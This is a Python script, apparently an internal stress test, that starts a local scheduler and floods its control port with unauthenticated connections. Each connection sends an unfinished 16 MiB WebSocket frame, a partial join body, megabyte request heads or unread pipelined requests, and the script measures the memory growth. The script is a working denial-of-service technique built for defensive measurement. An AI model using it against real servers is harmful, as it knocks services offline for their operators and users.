"""Strangers fill the scheduler's memory over its control port, without any certificate.

    python -m ops.attack.control_port_strangers [--strangers 500] [--frame-bytes 16777215]
        [--joins | --heads | --unread]

Starts a scheduler. Each stranger opens a control connection and sends most of a frame, of 16 MiB by
default, instead of a registration; with `--joins` most of a request to join, with `--heads` most of
a request's head of a megabyte, and with `--unread` such requests without reading their answers.
Prints by how much the scheduler's memory grows at most, and how many strangers it let send; stops
at 1 GiB.
"""

import argparse
import asyncio
import struct
import sys
from collections.abc import Callable, Coroutine, Mapping
from contextlib import suppress
from pathlib import Path

from tests.system.harness import Fleet, a_fleet, until

FRAME_BYTES = 16 * 1024 * 1024 - 1
CHUNK = bytes(4 * 1024)
JOIN_BYTES = 16 * 1024
STARTS_PER_S_OF_JOINS = 1_000.0
"""Faster than the scheduler gives up on an unfinished request, after 5 s."""

HEAD_BYTES = 960_000
FIELD_BYTES = 8_000

STRANGER_TIMEOUT_S = 10.0
GROWTH_MAX_KIB = 1024 * 1024
STARTS_PER_S = 100.0


def memory_kib(pid: int, field: str) -> int:
    """Return a field of /proc/PID/status: VmRSS, or VmHWM for the most so far."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(f"{field}:"):
            return int(line.split()[1])
    raise LookupError(field)


async def stranger(port: int, frame_bytes: int) -> int:
    """Send an unfinished frame, keep the connection open, and return the bytes sent."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    sent = 0
    with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
        async with asyncio.timeout(STRANGER_TIMEOUT_S):
            writer.write(
                b"GET /v1/agent HTTP/1.1\r\nHost: scheduler\r\nUpgrade: websocket\r\n"
                b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
                b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
            )
            await reader.readuntil(b"\r\n\r\n")
            # A masked binary frame with a length of 64 bits and a mask of zeros.
            writer.write(b"\x82\xff" + struct.pack("!Q", frame_bytes) + bytes(4))
            while sent < frame_bytes - len(CHUNK):
                writer.write(CHUNK)
                await writer.drain()
                sent += len(CHUNK)
            await reader.read()
    writer.close()
    return sent


async def joining_stranger(port: int, _frame_bytes: int) -> int:
    """Send all of a request to join but its last byte, and return the bytes sent."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(STRANGER_TIMEOUT_S):
            head = f"POST /v1/join HTTP/1.1\r\nHost: s\r\nContent-Length: {JOIN_BYTES}\r\n\r\n"
            writer.write(head.encode() + bytes(JOIN_BYTES - 1))
            await reader.read()
    writer.close()
    return JOIN_BYTES - 1


async def stranger_with_heads(port: int, head_bytes: int, *, unread: bool = False) -> int:
    """Send most of a request's head, or with `unread` whole requests, and return the bytes sent."""
    _, writer = await asyncio.open_connection("127.0.0.1", port)
    field = b": " + b"a" * FIELD_BYTES + b"\r\n"
    head = b"GET /v1/ca HTTP/1.1\r\nHost: s\r\n"
    head += b"".join(b"x%d" % number + field for number in range(head_bytes // len(field)))
    sent = 0
    with suppress(OSError, TimeoutError):
        async with asyncio.timeout(STRANGER_TIMEOUT_S):
            while not sent or unread:
                writer.write(head + b"\r\n" * unread)
                await writer.drain()
                sent += len(head)
            await writer.wait_closed()
    writer.transport.abort()
    return sent


async def unread_stranger(port: int, head_bytes: int) -> int:
    """Send requests without reading their answers, and return the bytes sent."""
    return await stranger_with_heads(port, head_bytes, unread=True)


Stranger = Callable[[int, int], Coroutine[None, None, int]]
STRANGERS: Mapping[str, tuple[Stranger, int, float]] = {
    "frames": (stranger, FRAME_BYTES, STARTS_PER_S),
    "joins": (joining_stranger, JOIN_BYTES, STARTS_PER_S_OF_JOINS),
    "heads": (stranger_with_heads, HEAD_BYTES, STARTS_PER_S_OF_JOINS),
    "unread": (unread_stranger, HEAD_BYTES, STARTS_PER_S_OF_JOINS),
}
"""Each kind: what it does, how many bytes it sends, and how many start in a second."""


async def attack(fleet: Fleet, strangers: int, kind: str, frame_bytes: int | None) -> str:
    """Return the line to print."""
    await fleet.start_postgres()
    await fleet.start_scheduler("a")
    await until("scheduler a is active", fleet.acts)
    pid = fleet.processes.pid("scheduler-a")
    before_kib = memory_kib(pid, "VmRSS")
    attacker, kind_bytes, starts_per_s = STRANGERS[kind]
    sent_bytes = frame_bytes or kind_bytes
    tasks = []
    for _ in range(strangers):
        if memory_kib(pid, "VmHWM") - before_kib > GROWTH_MAX_KIB:
            break
        tasks.append(asyncio.create_task(attacker(fleet.ports["control-a"], sent_bytes)))
        await asyncio.sleep(1 / starts_per_s)
    sent = await asyncio.gather(*tasks, return_exceptions=True)
    whole = sum(isinstance(count, int) and count > sent_bytes // 2 for count in sent)
    growth_mib = (memory_kib(pid, "VmHWM") - before_kib) / 1024
    return (
        f"{len(tasks)} strangers: scheduler +{growth_mib:.0f} MiB, "
        f"{whole} could send most of {sent_bytes} bytes"
    )


async def run(strangers: int, kind: str, frame_bytes: int | None) -> str:
    """Run the attack on a scheduler of its own."""
    async with a_fleet(comes_up=False) as fleet:
        return await attack(fleet, strangers, kind, frame_bytes)


def main() -> None:
    """Run the attack and print its figure."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--strangers", type=int, default=500)
    parser.add_argument("--frame-bytes", type=int)
    kinds = parser.add_mutually_exclusive_group()
    for kind in ("joins", "heads", "unread"):
        flag = f"--{kind}"
        kinds.add_argument(flag, dest="kind", action="store_const", const=kind, default="frames")
    given = parser.parse_args()
    sys.stdout.write(asyncio.run(run(given.strangers, given.kind, given.frame_bytes)) + "\n")


if __name__ == "__main__":
    main()
